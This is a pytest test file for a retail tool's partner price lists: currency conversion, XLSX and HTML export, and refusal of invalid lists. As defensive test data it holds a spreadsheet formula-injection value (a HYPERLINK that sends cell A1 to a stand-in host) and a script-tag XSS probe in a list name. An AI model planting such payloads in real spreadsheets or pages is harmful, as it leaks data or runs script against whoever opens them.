"""Price lists for partners: a price type in a currency at a rate with its own rounding step,
groups as sections, exported to XLSX (read back with openpyxl) and HTML (read back as text),
with formulas neutralised and HTML escaped; bad lists refused with nothing written."""

from __future__ import annotations

import contextlib
import datetime as dt
import html
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from torgtui import db as dbmod
from torgtui.cli import main
from torgtui.clock import FixedClock
from torgtui.csvsafe import unprotect_cell
from torgtui.errors import PermissionDenied, ValidationError
from torgtui.marketing import pricelists as pl
from torgtui.marketing import pricerules as pr
from torgtui.marketing.pricelists import PriceListData
from torgtui.marketing.pricerules import PriceTypeData
from torgtui.models import AuditEntry, Location, Product, ProductGroup
from torgtui.models.prices import PriceList

T0 = dt.datetime(2026, 11, 1, 9, 0)
EVIL = '=HYPERLINK("http://x.ex/?"&A1,"Hi")'  # fits a SKU (40)


def fill_shop(by, clock, *, system: bool = False) -> Location:
    """Three groups' worth of goods, a wholesale type with two prices, a Kyiv location."""
    kyiv = Location.create(code="KYIV", name="Київ", address="Хрещатик, 1")
    cosmetics = ProductGroup.create(name="Cosmetics", path="Cosmetics")
    creams = ProductGroup.create(name="Creams", parent=cosmetics, path="Cosmetics/Creams")

    def product(sku: str, name: str, price: int, **kw) -> Product:
        return Product.create(
            sku=sku, name=name, price=price, cost=0, created_at=T0, updated_at=T0, **kw
        )

    shampoo = product("SH-1", "Шампунь", 12000, group=cosmetics)
    cream = product("CR-1", "Крем <b>&</b>", 18990, group=creams)
    product("SO-1", "Мило", 32000, unit="kg", weighed=True)
    product(EVIL, EVIL, 4350, group=cosmetics)
    product("OLD", "Знято з продажу", 100, active=False)
    pr.save_price_type(PriceTypeData("wholesale", "Опт"), by=by, clock=clock, system=system)
    pr.set_type_prices(
        "wholesale", {shampoo.id: 10000, cream.id: 15990}, by=by, clock=clock, system=system
    )
    return kyiv


@pytest.fixture
def kyiv(db, staff, clock) -> Location:
    return fill_shop(staff["manager"], clock)


def test_convert_rounds_half_up_to_the_step() -> None:
    rate = Decimal("43.50")
    assert pl.convert(125000, rate, Decimal("0.01")) == Decimal("28.74")  # 28.7356...
    assert pl.convert(125000, rate, Decimal(1)) == Decimal("29.00")
    assert pl.convert(6000, Decimal(40), Decimal(1)) == Decimal("2.00")  # 1.5 -> 2
    assert pl.convert(5000, Decimal(40), Decimal(1)) == Decimal("1.00")  # 1.25 -> 1
    assert pl.convert(5000, Decimal(40), Decimal("0.10")) == Decimal("1.30")  # 12.5 steps
    assert pl.convert(5000, Decimal(40), Decimal("0.05")) == Decimal("1.25")
    assert pl.convert(12345, Decimal(1), Decimal("0.01")) == Decimal("123.45")


def test_a_euro_list_of_the_locations_type(kyiv, staff, clock) -> None:
    m = staff["manager"]
    pr.set_location_price_type(kyiv.id, "wholesale", by=m, clock=clock)
    pl.save_price_list(
        PriceListData("eur", "Partners EUR", None, kyiv.id, "eur", Decimal("43.50")),
        by=m,
        clock=clock,
    )
    table = pl.build_table("eur")
    assert (table.currency, table.price_type, table.location) == (
        "EUR",
        "wholesale",
        "Київ, Хрещатик, 1",
    )
    got = [
        (title, [(r.sku, r.kopecks, str(r.price)) for r in rows]) for title, rows in table.sections
    ]
    assert got == [
        ("Cosmetics", [(EVIL, 4350, "1.00"), ("SH-1", 10000, "2.30")]),  # by name
        ("Cosmetics / Creams", [("CR-1", 15990, "3.68")]),  # 3.6758...
        ("Other goods", [("SO-1", 32000, "7.36")]),  # no wholesale price: retail 7.3563...
    ]
    # to whole euros, retail named on the list itself
    pl.save_price_list(
        PriceListData("eur1", "Retail EUR", "retail", kyiv.id, "EUR", Decimal("43.50"), Decimal(1)),
        by=m,
        clock=clock,
    )
    prices = {r.sku: str(r.price) for _t, rows in pl.build_table("eur1").sections for r in rows}
    assert prices == {"SH-1": "3.00", EVIL: "1.00", "CR-1": "4.00", "SO-1": "7.00"}


def test_xlsx_export_reads_back_with_formulas_neutralised(kyiv, staff, clock, tmp_path) -> None:
    m = staff["manager"]
    pl.save_price_list(
        PriceListData("eur", "Partners EUR", "wholesale", None, "EUR", Decimal("43.50")),
        by=m,
        clock=clock,
    )
    out = tmp_path / "eur.xlsx"
    pl.export_price_list("eur", out, by=m, clock=clock)
    sheet = load_workbook(out).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0][0] == "Partners EUR"
    assert rows[1][0] == "Prices: Опт"
    assert rows[2][0] == "In EUR at 43.50 ₴ for 1 EUR, rounded to 0.01"
    assert rows[3][0] == "As of 2026-11-22"
    assert rows[5] == ["SKU", "Product name", "Unit", "Price, EUR"]
    body = [r for r in rows[6:] if any(v is not None for v in r)]
    assert body[0][0] == "Cosmetics"
    evil = body[1]
    assert evil[0] == "'" + EVIL and unprotect_cell(evil[0]) == EVIL and evil[3] == 1
    assert sheet["A8"].value == evil[0]  # the row checked: never a formula
    assert [c.data_type for c in sheet[8]] == ["s", "s", "s", "n"]
    assert body[2] == ["SH-1", "Шампунь", "pcs", 2.3]
    assert body[3][0] == "Cosmetics / Creams" and body[4][1] == "Крем <b>&</b>"
    assert body[5][0] == "Other goods" and body[6][3] == 7.36
    assert not list(tmp_path.glob(".*partial"))


def test_html_export_is_escaped(kyiv, staff, clock, tmp_path) -> None:
    m = staff["manager"]
    pl.save_price_list(
        PriceListData("uah", 'Опт <script>alert("x")</script>', "wholesale"), by=m, clock=clock
    )
    out = tmp_path / "uah.html"
    pl.export_price_list("uah", out, clock=clock)
    text = out.read_text("utf-8")
    assert "<script>" not in text and "&lt;script&gt;alert(&quot;x&quot;)" in text
    assert '<td class="t">Крем &lt;b&gt;&amp;&lt;/b&gt;</td><td class="t">pcs</td>' in text
    assert '<td class="n">159.90</td>' in text and '<td class="n">320.00</td>' in text
    assert '<th class="g" colspan="4">Cosmetics / Creams</th>' in text
    assert html.escape(EVIL, quote=True) in text
    assert "Знято" not in text  # inactive goods are left out
    assert "In UAH" not in text  # no rate line for hryvnias


def test_bad_price_lists_are_refused_with_nothing_written(kyiv, staff, clock, tmp_path) -> None:
    m = staff["manager"]
    audits = AuditEntry.select().count()
    bad = [
        (PriceListData("x", "X", currency="XYZ", rate=Decimal(40)), "Unknown currency 'XYZ'"),
        (PriceListData("x", "X", currency="EUR", rate=Decimal(0)), "more than 0"),
        (PriceListData("x", "X", currency="EUR", rate=Decimal(-40)), "more than 0"),
        (PriceListData("x", "X", currency="EUR", rate=Decimal("NaN")), "a number like"),
        (PriceListData("x", "X", currency="EUR", rate=40.5), "a number like"),  # a float
        (PriceListData("x", "X", currency="EUR", rate=Decimal("1e-9")), "six decimals"),
        (PriceListData("x", "X", currency="UAH", rate=Decimal(2)), "rate 1"),
        (PriceListData("x", "X", rounding=Decimal(0)), "rounding step"),
        (PriceListData("x", "X", rounding=Decimal("0.001")), "rounding step"),
        (PriceListData("x", "X", price_type="gold"), "no price type 'gold'"),
        (PriceListData("x", "X", location_id=999), "no location 999"),
        (PriceListData("x y", "X"), "no spaces"),
        (PriceListData("x", ""), "is empty"),
    ]
    for data, message in bad:
        with pytest.raises(ValidationError, match=message):
            pl.save_price_list(data, by=m, clock=clock)
    with pytest.raises(PermissionDenied):
        pl.save_price_list(PriceListData("x", "X"), by=staff["cashier"], clock=clock)
    assert PriceList.select().count() == 0 and AuditEntry.select().count() == audits
    with pytest.raises(ValidationError, match="make one first"):
        pl.export_price_list("x", tmp_path / "x.html")
    pl.save_price_list(PriceListData("x", "X"), by=m, clock=clock)
    with pytest.raises(ValidationError, match=r"\.xlsx or \.html"):
        pl.export_price_list("x", tmp_path / "x.pdf")
    with pytest.raises(ValidationError, match="does not exist"):
        pl.export_price_list("x", tmp_path / "nowhere" / "x.html")
    with pytest.raises(ValidationError, match="the lists are x"):
        pl.export_price_list("y", tmp_path / "y.html")
    assert not list(tmp_path.glob("*.html")) and not list(tmp_path.glob("*.pdf"))
    pl.save_price_list(PriceListData("x", "X", "wholesale"), by=m, clock=clock)
    with pytest.raises(ValidationError, match="used by a price list"):
        pr.delete_price_type("wholesale", by=m, clock=clock)
    assert [d.code for d in pl.list_price_lists()] == ["x"]
    pl.delete_price_list("x", by=m, clock=clock)
    assert pl.list_price_lists() == []


def test_the_export_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shop = str(tmp_path / "shop.sqlite")
    assert main(["--db", shop, "init", "--owner", "Olena", "--pin", "1111"]) == 0
    dbmod.open_database(shop)
    clock = FixedClock(dt.datetime(2026, 11, 22, 10, 0))
    kyiv = fill_shop(None, clock, system=True)
    pl.save_price_list(
        PriceListData("kyiv-eur", "Kyiv", None, kyiv.id, "EUR", Decimal("43.5")),
        by=None,
        system=True,
    )
    dbmod.database.close()
    capsys.readouterr()
    out = tmp_path / "kyiv.xlsx"
    assert main(["--db", shop, "pricelist", "export", "--list", "kyiv-eur", str(out)]) == 0
    assert "4 products in EUR" in capsys.readouterr().out
    assert load_workbook(out).active["A1"].value == "Kyiv"
    for argv, message in [
        (["--list", "kyiv-eur", str(tmp_path / "k.csv")], ".xlsx or .html"),
        (["--list", "nope", str(tmp_path / "k.html")], "no price list 'nope'"),
        (["--list", "a b", str(tmp_path / "k.html")], "no spaces"),
        (["--list", "kyiv-eur", str(tmp_path / "no" / "k.html")], "does not exist"),
    ]:
        assert main(["--db", shop, "pricelist", "export", *argv]) == 2
        assert message in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir() if "sqlite" not in p.name) == ["kyiv.xlsx"]


@pytest.fixture(scope="module")
def cli_shop(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("pricelist-cli")
    path = root / "shop.sqlite"
    assert main(["--db", str(path), "init", "--owner", "Olena", "--pin", "1111"]) == 0
    (root / "work").mkdir()
    return path


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    code=st.text(max_size=45),
    name=st.text(max_size=30),
    suffix=st.sampled_from([".xlsx", ".html", ".HTM", ".csv", "", "/"]),
)
@example(code="x", name="a\x00b", suffix=".html")
@example(code="x", name="..", suffix="/")
@example(code="x", name="\udcff", suffix=".xlsx")
def test_the_export_command_refuses_any_bad_argument(cli_shop, code, name, suffix) -> None:
    """No such list (or no usable code, or file): exit 2 with one line, never a traceback or
    the crash log, and no file written."""
    work = cli_shop.parent / "work"
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        status = main(
            [
                "--db",
                str(cli_shop),
                "pricelist",
                "export",
                "--list",
                code,
                str(work / name) + suffix,
            ]
        )
    dbmod.database.close()
    assert status == 2, err.getvalue()
    assert err.getvalue().startswith("torgtui: ") and "unexpected error" not in err.getvalue()
    assert list(work.iterdir()) == []
